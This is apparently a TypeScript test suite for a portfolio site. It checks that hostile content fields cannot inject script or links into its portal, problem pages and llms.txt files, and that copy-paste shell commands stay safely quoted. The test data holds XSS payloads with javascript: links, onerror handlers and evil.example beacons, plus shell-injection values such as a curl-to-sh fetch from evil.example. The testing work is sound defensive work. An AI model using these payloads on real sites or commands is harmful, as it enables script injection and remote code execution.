// Hostile content in the developer resources (issue 11): text fields full of script tags,
// event handlers, `javascript:` links, Markdown links, images and closing tags, and URLs that
// are valid but odd. Built and served by the preview, the portal, every problem page and the
// llms files (raw, and rendered as Markdown) load in headless Chromium with no dialog and no
// request anywhere the page does not own; content reads back as the same text; and every
// copy-paste command, run through a real shell, has exactly the arguments it shows.
import { appProblems } from "../build/resource-docs-of.ts";
import { formatProblem } from "../build/report-problems.ts";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { spawnSync } from "node:child_process";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import path from "node:path";
import type { Browser, Page } from "playwright-core";
import { buildSite } from "../build/build-site.ts";
import { withMcpListing } from "../build/make-index.ts";
import { escapeHtml } from "../build/site-documents/html/html-text.ts";
import { renderAgentSection } from "../build/site-documents/portal/portal-agent.ts";
import { renderQuickStart } from "../build/site-documents/portal/portal-quick-start.ts";
import { escapeMarkdown, markdownUrl } from "../build/site-documents/text/markdown-escape.ts";
import { linkLine } from "../build/site-documents/llms/markdown-text.ts";
import { fieldLines } from "../build/site-documents/llms/llms-full-txt.ts";
import { shellQuote, shellWords } from "../build/site-documents/text/shell-quote.ts";
import { createApp } from "../functions/api/core/app.ts";
import type { PortfolioIndex } from "../functions/api/core/portfolio-index.ts";
import { problemSlug } from "../functions/api/core/http/problems.ts";
import { launchChromium } from "./support/browser.ts";
import { useSite } from "./support/preview-harness.ts";
import { PATIENCE_MS } from "./support/patience.ts";

/** marked 4, the Markdown renderer Redoc uses: CommonMark + GFM, raw HTML passed through. */
const { marked } = createRequire(import.meta.url)("marked") as { marked: { parse(markdown: string): string } };

/** commonmark.js, the CommonMark reference renderer, raw HTML passed through (its default). */
const commonmark = createRequire(import.meta.url)("commonmark") as {
  Parser: new () => { parse(markdown: string): unknown };
  HtmlRenderer: new () => { render(tree: unknown): string };
};

/** The renderers people read llms.txt with, by name. */
const RENDERERS: Record<string, (markdown: string) => string> = {
  marked: (markdown) => marked.parse(markdown),
  commonmark: (markdown) => new commonmark.HtmlRenderer().render(new commonmark.Parser().parse(markdown)),
};

/** Text that would open a link or an image from inside a link label, as an outer link's label. */
const LABEL_PAYLOADS = [
  "[click me](javascript:alert(document.domain)) ![](https://evil.example/beacon.png)",
  "![beacon](https://evil.example/study-beacon.png) [open](javascript:alert(document.domain)) <https://evil.example/auto>",
  "[ref] [ref][] [x][ref] [a]: https://evil.example/def",
  "\\[x\\](javascript:alert(1)) \\\\[y](javascript:alert(2))",
  "&#91;x&#93;(javascript:alert(1)) &lbrack;y&rbrack;(javascript:alert(2))",
  "`[code](javascript:alert(1))` [`x`](javascript:alert(1))",
];

const HOSTILE_CONTENT = "test/fixtures/hostile";
const VALID_CONTENT = "test/fixtures/content/valid";
const SOURCE_DATE_EPOCH = "1767225600";

/** Every text the fixture puts into content fields, and then some Markdown block starters. */
const PAYLOADS = [
  `<script>alert(document.domain)</script>`,
  `Defne <img src="x" onerror="alert(document.domain)">`,
  `<img src=x onerror=alert(document.domain)>`,
  `[click me](javascript:alert(document.domain))`,
  `![pixel](https://evil.example/pixel.png)`,
  `</p></code></pre></script></textarea></title></noscript><svg onload=alert(document.domain)>`,
  `<a href="javascript:alert(document.domain)">link</a> <https://evil.example/autolink>`,
  `<iframe src="https://evil.example/frame"></iframe>`,
  "`code` and ``more`` *em* __strong__ ~~gone~~ snake_case_name",
  "see https://evil.example/bare, www.evil.example and mail@evil.example",
  // GFM's autolinks start inside a word too: after a letter, a digit or `_`, and an e-mail after `.`, `+` or `-`.
  "foowww.evil.example/n 1www.evil.example _www.evil.example WWW.evil.example x.@evil.example a+@evil.example a.b-@evil.example @evil.example",
  "&lt;script&gt; &#60;b&#62; &amp; AT&T",
  "# heading",
  "## heading",
  "> quote",
  "- item",
  "+ item",
  "* item",
  "1. item",
  "2) item",
  "=== setext",
  "--- rule",
  "```fence",
  "~~~fence",
  "| a | b |",
  "\\[escaped\\] and a trailing backslash \\",
];

async function buildInto(contentDir: string, baseUrl: string): Promise<{ dir: string; index: PortfolioIndex }> {
  const dir = await mkdtemp(path.join(tmpdir(), "portfolio-hostile-"));
  const result = await buildSite({ contentDir, outDir: dir, indexModule: false, baseUrl, env: { SOURCE_DATE_EPOCH } });
  if (!result.ok) throw new Error(result.problems.map(formatProblem).join("\n"));
  return { dir, index: result.index };
}

/** Run `words` as the arguments of `set --` in /bin/sh, with nothing on PATH, and read them back. */
function parseWithShell(words: string): string[] {
  const script = `set -- ${words}\nfor a in "$@"; do printf '%s\\0' "$a"; done`;
  const result = spawnSync("/bin/sh", ["-c", script], { env: { PATH: path.join(tmpdir(), "no-such-bin") }, encoding: "utf8", timeout: PATIENCE_MS });
  expect(result.stderr).toBe("");
  expect(result.status).toBe(0);
  return result.stdout.split("\0").slice(0, -1);
}

/** `&#91;` → `[`: the numeric references a renderer passes through for the browser to decode. */
function decodeNumeric(html: string): string {
  return html.replace(/&#(\d+);/g, (_, code: string) => String.fromCodePoint(Number(code)));
}

/** The text of an HTML fragment the way a browser decodes our escapes. */
function decodeHtml(html: string): string {
  return html.replaceAll("&lt;", "<").replaceAll("&gt;", ">").replaceAll("&quot;", '"').replaceAll("&#39;", "'").replaceAll("&amp;", "&");
}

describe("escapeMarkdown: content text in Markdown stays the same text", () => {
  it.each(PAYLOADS)("renders %j as one paragraph of exactly that text, with no markup", (text) => {
    expect(marked.parse(escapeMarkdown(text))).toBe(`<p>${escapeHtml(text)}</p>\n`);
  });

  it.each(Object.keys(RENDERERS).flatMap((renderer) => ["Learning F #", "Top list ##", "# only", "C#", "x #y"].map((text) => [renderer, text] as const)))("%s renders a heading of %j with every # it holds: a trailing run is no closing sequence", (renderer, text) => {
    // marked gives a heading an id made from its text; the text is what is compared.
    const html = (RENDERERS[renderer] as (markdown: string) => string)(`### ${escapeMarkdown(text)}`).trim().replace(/^<h3 id="[^"]*">/, "<h3>");
    expect(html).toBe(`<h3>${escapeHtml(text)}</h3>`);
  });

  it("keeps the text one line: a newline cannot start a heading or a list", () => {
    expect(marked.parse(escapeMarkdown("Name\n# heading\n- item"))).toBe("<p>Name # heading - item</p>\n");
  });

  it.each([
    "https://example.com/x?a=)](javascript:alert(document.domain))",
    "https://example.com/in/(ada)'quote'",
    "https://example.com/study/[x](y) z",
    "https://example.com/?a=<b>",
  ])("markdownUrl(%j) is a link destination naming the same URL", (url) => {
    const html = marked.parse(`[name](${markdownUrl(url)})`);
    const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map((m) => decodeHtml(m[1] ?? ""));
    expect(hrefs).toHaveLength(1);
    expect(decodeURI(hrefs[0] ?? "")).toBe(url);
    expect(html).toMatch(/^<p><a href="[^"]*">name<\/a><\/p>\n$/);
  });
});

describe("llms-full.txt: an added section's field", () => {
  it("is a link only when it is a URL as a URL field stores it, not prose that starts with one", () => {
    expect(fieldLines("summary", "https://conf.example/2024 was where I gave this talk (in Arabic)")).toEqual(["- summary: https\\://conf.example/2024 was where I gave this talk (in Arabic)"]);
    expect(fieldLines("venue", "https://Conf.example")).toEqual(["- venue: https\\://Conf.example"]);
    expect(fieldLines("url", "https://conf.example/2024/talk")).toEqual(["- url: <https://conf.example/2024/talk>"]);
    expect(fieldLines("links", { slides: "https://conf.example/s?x=(1)" })).toEqual(["- links: slides <https://conf.example/s?x=%281%29>"]);
  });
});

describe("linkLine: content text inside a link label opens no link and no image", () => {
  const cases = Object.keys(RENDERERS).flatMap((renderer) => [...LABEL_PAYLOADS, ...PAYLOADS].map((text) => [renderer, text] as const));
  it.each(cases)("%s renders a label of %j as the one outer link with exactly that text", (renderer, text) => {
    const html = (RENDERERS[renderer] as (markdown: string) => string)(linkLine(text, "https://example.com/a", "note"));
    expect(html.match(/<a /g)).toHaveLength(1);
    expect(html).not.toMatch(/<img|<script|<iframe|<svg|<code|="\s*javascript:/i);
    const label = /<a href="https:\/\/example\.com\/a">(.*)<\/a>: note/.exec(html)?.[1];
    expect(label, html).toBeDefined();
    expect(decodeHtml(decodeNumeric(label ?? ""))).toBe(text.replace(/\s+/g, " ").trim());
  });
});

describe("shellQuote: a value is one shell argument that runs nothing", () => {
  it.each([
    "portfolio; curl https://evil.example/pwn.sh | sh; echo",
    "it's",
    "$(touch /tmp/pwned) `id` $HOME ${PATH}",
    "a\nb",
    "",
    "~",
    "*",
    "-n",
    "x=1",
    "http://127.0.0.1:8888/api/v1/projects?lane=some-lane&q=web",
    '{"jsonrpc":"2.0","id":1}',
    "plain-word_1.2:3@4%5+6,/",
  ])("%j survives /bin/sh as exactly one argument", (value) => {
    expect(parseWithShell(shellQuote(value))).toEqual([value]);
  });

  it("leaves plain words unquoted and splits a CLI command into quoted words", () => {
    expect(shellQuote("fixture-api")).toBe("fixture-api");
    expect(parseWithShell(shellWords("npx  fixture-cli; curl https://evil.example | sh"))).toEqual(["npx", "fixture-cli;", "curl", "https://evil.example", "|", "sh"]);
  });
});

describe("the portal's copy-paste commands with a hostile service name and CLI", () => {
  const service = "portfolio; curl https://evil.example/pwn.sh | sh; echo";
  const cli = "npx fixture-cli; curl https://evil.example/pwn.sh | sh";
  let dir: string;
  let index: PortfolioIndex;
  beforeAll(async () => {
    // The content rules may refuse such values; the renderers must be safe without relying on that.
    const built = await buildInto(VALID_CONTENT, "http://127.0.0.1:8888");
    dir = built.dir;
    // The MCP lists are made afresh for the changed index, as a build of such content would make them.
    index = withMcpListing({
      ...built.index,
      site: { ...built.index.site, service },
      profile: { ...built.index.profile, developerResources: { ...built.index.profile.developerResources, cli } },
    });
  });
  afterAll(async () => {
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it("quotes the service in `claude mcp add`, so the shell sees it as one argument", async () => {
    const html = await renderAgentSection(createApp(index), index);
    const line = /<code>(claude mcp add [^<]*)<\/code>/.exec(html)?.[1];
    expect(line).toBeDefined();
    expect(parseWithShell(decodeHtml(line ?? ""))).toEqual(["claude", "mcp", "add", "--transport", "http", service, `${index.site.baseUrl}/api/mcp`]);
  });

  it("quotes every word of the CLI command and every curl argument", async () => {
    const commands = [...renderQuickStart(index).matchAll(/<pre tabindex="0"><code>([^<]*)<\/code><\/pre>/g)].map((m) => decodeHtml(m[1] ?? ""));
    expect(commands.at(-1)).toBeDefined();
    expect(parseWithShell(commands.at(-1) ?? "")).toEqual(cli.split(/\s+/));
    for (const command of commands.slice(0, -1)) {
      const args = parseWithShell(command);
      expect(args[0], command).toBe("curl");
      expect(args.at(-1), command).toMatch(new RegExp(`^${index.site.baseUrl.replaceAll(".", "\\.")}/api/v1/`));
    }
    const call = /<h3>Or call (?:a tool|the server) by hand<\/h3>\n<pre tabindex="0"><code>([^<]*)<\/code>/.exec(await renderAgentSection(createApp(index), index))?.[1] ?? "";
    const args = parseWithShell(decodeHtml(call));
    expect(args.slice(0, 3)).toEqual(["curl", "-X", "POST"]);
    expect(JSON.parse(args.at(-1) ?? "")).toMatchObject({ method: "tools/call", params: { name: "get_case_study" } });
  });
});

describe("hostile content through the preview, in headless Chromium", () => {
  const site = useSite({ content: HOSTILE_CONTENT });
  let index: PortfolioIndex;
  let base: string;
  let browser: Browser;

  beforeAll(async () => {
    ({ index, url: base } = site());
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
  });

  /** Open a page that records every dialog and every request outside `allowed` (exact URLs). */
  async function watchedPage(allowed: string[]): Promise<{ page: Page; dialogs: string[]; foreign: string[] }> {
    const page = await browser.newPage();
    const dialogs: string[] = [];
    const foreign: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(`${dialog.type()}: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on("request", (request) => {
      const url = request.url();
      if (!allowed.includes(url) && !/^(data|blob|about):/.test(url)) foreign.push(url);
    });
    page.on("popup", (popup) => foreign.push(`popup ${popup.url()}`));
    return { page, dialogs, foreign };
  }

  /** Elements content could have smuggled in: event handlers, script URLs, frames, embeds. */
  async function smuggledElements(page: Page): Promise<string[]> {
    return page.evaluate(() =>
      [...document.querySelectorAll("*")].flatMap((element) => {
        const found: string[] = [];
        for (const attribute of element.getAttributeNames()) {
          const value = element.getAttribute(attribute) ?? "";
          if (attribute.startsWith("on")) found.push(`${element.tagName} ${attribute}`);
          if (/^\s*javascript:/i.test(value)) found.push(`${element.tagName} ${attribute}=${value}`);
        }
        if (["IFRAME", "OBJECT", "EMBED"].includes(element.tagName)) found.push(element.tagName);
        return found;
      }),
    );
  }

  it("the fixture really is hostile: its name would fire as HTML", async () => {
    const profile = JSON.parse(await readFile(path.join(HOSTILE_CONTENT, "profile.json"), "utf8")) as { name: string };
    expect(profile.name).toBe(`Defne <img src="x" onerror="alert(document.domain)">`);
    expect(index.profile.name).toBe(profile.name);
  });

  it("the portal shows content as text, fires no dialog and asks only for its own files", async () => {
    const { page, dialogs, foreign } = await watchedPage([`${base}/`, `${base}/assets/redoc.standalone.js`]);
    await page.goto(`${base}/`, { waitUntil: "load" });
    await page.waitForSelector("#reference .api-content", { timeout: PATIENCE_MS });
    await page.waitForLoadState("networkidle");
    expect(await page.locator("h1").first().innerText()).toBe(index.profile.name);
    // Redoc renders info.summary as Markdown: the name must come back as the same text.
    const summary = await page.locator('#reference [data-role="redoc-summary"]').innerText();
    expect(summary.trim()).toBe(`A public, read-only API for the portfolio of ${index.profile.name}.`);
    expect(await page.locator("#reference").innerText()).toContain(`${index.profile.name}: Portfolio API`);
    expect(await smuggledElements(page)).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(foreign).toEqual([]);
    await page.close();
  });

  /** Record every CSP violation the page reports, from before its first script runs. */
  async function recordViolations(page: Page): Promise<() => Promise<string[]>> {
    await page.addInitScript(() => {
      const seen: string[] = [];
      (window as unknown as { cspViolations: string[] }).cspViolations = seen;
      document.addEventListener("securitypolicyviolation", (event) => seen.push(`${event.effectiveDirective} ${event.blockedURI}`));
    });
    return () => page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations);
  }

  /** Whether markup injected into the page could run an event handler. */
  async function injectedHandlerRuns(page: Page): Promise<boolean> {
    // The image's own listener, added by this script (which no policy blocks), runs after the
    // injected attribute handler would have: once it has, the answer is final, however slow the
    // machine, where a fixed pause could end before the image settled and prove nothing.
    await page.evaluate(() => {
      const state = window as unknown as { injectedRan?: boolean; injectedSettled?: boolean };
      state.injectedRan = false;
      state.injectedSettled = false;
      document.body.insertAdjacentHTML("beforeend", `<img src="data:," onload="window.injectedRan = true" onerror="window.injectedRan = true">`);
      const image = document.body.lastElementChild as HTMLImageElement;
      const settled = () => {
        state.injectedSettled = true;
      };
      image.addEventListener("load", settled);
      image.addEventListener("error", settled);
    });
    await page.waitForFunction(() => (window as unknown as { injectedSettled?: boolean }).injectedSettled === true, undefined, { timeout: PATIENCE_MS });
    return page.evaluate(() => (window as unknown as { injectedRan?: boolean }).injectedRan === true);
  }

  it("the portal and every problem page carry a Content-Security-Policy that allows their own code and nothing injected", async () => {
    const pages = [`${base}/`, ...appProblems(createApp(index)).map((type) => `${base}/problems/${problemSlug(type.code)}`)];
    // The probe itself works: on a page with no policy, the injected handler runs.
    const control = await browser.newPage();
    await control.setContent("<!doctype html><title>no policy</title><body></body>");
    expect(await injectedHandlerRuns(control)).toBe(true);
    await control.close();
    for (const url of pages) {
      const { page } = await watchedPage([url, `${base}/assets/redoc.standalone.js`]);
      const violations = await recordViolations(page);
      const response = await page.goto(url, { waitUntil: "load" });
      const policy = response?.headers()["content-security-policy"] ?? "";
      expect(policy, url).toMatch(/^default-src 'none'; script-src /);
      expect(policy, url).toContain("frame-ancestors 'none'");
      expect(policy, url).not.toMatch(/script-src[^;]*'unsafe-(inline|eval)'/);
      if (url === `${base}/`) await page.waitForSelector("#reference .api-content", { timeout: PATIENCE_MS });
      await page.waitForLoadState("networkidle");
      // The page's own inline style applied (its hash is in the policy): the body uses system fonts.
      expect(await page.evaluate(() => getComputedStyle(document.body).fontFamily), url).toContain("system-ui");
      expect(await violations(), url).toEqual([]);
      expect(await injectedHandlerRuns(page), url).toBe(false);
      await page.close();
    }
    // A dozen pages in one browser: generous, as the machine may be busy.
  }, 180_000);

  it("Redoc sanitizes the HTML of a description, with the policy off to see it alone", async () => {
    const html = await readFile(path.join(site().distDir, "index.html"), "utf8");
    const doc = JSON.parse(await readFile(path.join(site().distDir, "openapi.json"), "utf8")) as { info: { description: string } };
    doc.info.description += `\n\n<img id="raw-html" src="data:," onerror="window.injectedRan = true" onload="window.injectedRan = true"><a id="raw-link" href="javascript:alert(1)">x</a>`;
    const swapped = html.replace(/(<script type="application\/json" id="openapi-document">)[^<]*/, (_, open: string) => `${open}${JSON.stringify(doc).replaceAll("<", "\\u003c")}`);
    expect(swapped).not.toBe(html);
    const { page, dialogs } = await watchedPage([`${base}/`, `${base}/assets/redoc.standalone.js`]);
    // The same page without its Content-Security-Policy header, so only the sanitizer stands.
    await page.route(`${base}/`, (route) => route.fulfill({ status: 200, contentType: "text/html; charset=utf-8", body: swapped }));
    await page.goto(`${base}/`, { waitUntil: "load" });
    await page.waitForSelector("#reference .api-content", { timeout: PATIENCE_MS });
    await page.waitForLoadState("networkidle");
    expect(await page.locator("#reference").innerText()).toContain(`${index.profile.name}: Portfolio API`);
    expect(await page.evaluate(() => (window as unknown as { injectedRan?: boolean }).injectedRan === true)).toBe(false);
    expect(await smuggledElements(page)).toEqual([]);
    expect(dialogs).toEqual([]);
    await page.close();
  }, 120_000);

  it("every problem page fires no dialog and asks for nothing else", async () => {
    for (const { code, title } of appProblems(createApp(index))) {
      const url = `${base}/problems/${problemSlug(code)}`;
      const { page, dialogs, foreign } = await watchedPage([url]);
      await page.goto(url, { waitUntil: "networkidle" });
      expect(await page.locator("h1").innerText(), code).toBe(title);
      expect(await smuggledElements(page), code).toEqual([]);
      expect(dialogs, code).toEqual([]);
      expect(foreign, code).toEqual([]);
      await page.close();
    }
  });

  it.each(["llms.txt", "llms-full.txt"].flatMap((file) => Object.keys(RENDERERS).map((renderer) => [file, renderer] as const)))("%s, opened raw and rendered by %s, fires no dialog and opens no heading, link or image from content", async (file, renderer) => {
    const url = `${base}/${file}`;
    const raw = await watchedPage([url]);
    await raw.page.goto(url, { waitUntil: "networkidle" });
    const text = await raw.page.evaluate(() => document.body.innerText);
    expect(raw.dialogs).toEqual([]);
    expect(raw.foreign).toEqual([]);
    await raw.page.close();

    // As a Markdown viewer would show it (raw HTML allowed), on a page with no origin.
    const rendered = await watchedPage([]);
    await rendered.page.setContent((RENDERERS[renderer] as (markdown: string) => string)(text), { waitUntil: "networkidle" });
    const headings = await rendered.page.$$eval("h1, h2, h3, h4, h5, h6", (list) => list.map((h) => `${h.tagName} ${(h as HTMLElement).innerText}`));
    const expected = [`H1 ${index.profile.name}`, "H2 API", "H2 Docs", "H2 MCP", "H2 Case studies"];
    if (file === "llms-full.txt") expected.push("H2 Profile", "H2 Skills", "H2 Projects", ...index.projects.map((p) => `H3 ${p.title}`));
    expected.push("H2 Optional");
    expect(headings).toEqual(expected);
    const hrefs = await rendered.page.$$eval("a[href]", (links) => links.map((a) => (a as HTMLAnchorElement).href));
    const contentUrls = new Set(collectUrls(index).map((u) => new URL(u).href));
    for (const href of hrefs) {
      const decoded = decodeURI(href);
      expect(href.startsWith(`${base}/`) || contentUrls.has(decoded) || contentUrls.has(href) || href === `mailto:${index.profile.contact.email}`, href).toBe(true);
    }
    // Every title placed in a link label is that link's whole text, and nothing more.
    const linkTexts = await rendered.page.$$eval("a", (links) => links.map((a) => (a as HTMLElement).innerText));
    const labels = index.projects.map((p) => p.caseStudy?.title ?? p.title);
    expect(labels).toEqual(expect.arrayContaining(LABEL_PAYLOADS.slice(0, 2)));
    for (const label of labels) expect(linkTexts, label).toContain(label);
    expect(await rendered.page.$$("img, script, iframe, svg, code")).toHaveLength(file === "llms-full.txt" ? index.projects.length : 0);
    expect(await smuggledElements(rendered.page)).toEqual([]);
    expect(rendered.dialogs).toEqual([]);
    expect(rendered.foreign).toEqual([]);
    await rendered.page.close();
  });
});

/** Every URL the content gives: these may be shown and linked as they are. */
function collectUrls(index: PortfolioIndex): string[] {
  const { contact, keyProjects } = index.profile;
  return [
    contact.website,
    contact.github,
    contact.linkedin,
    contact.x,
    ...(keyProjects ?? []).map((k) => k.url),
    ...index.projects.flatMap((p) => [...Object.values(p.links), p.caseStudy?.url]),
  ].filter((url): url is string => url !== undefined);
}
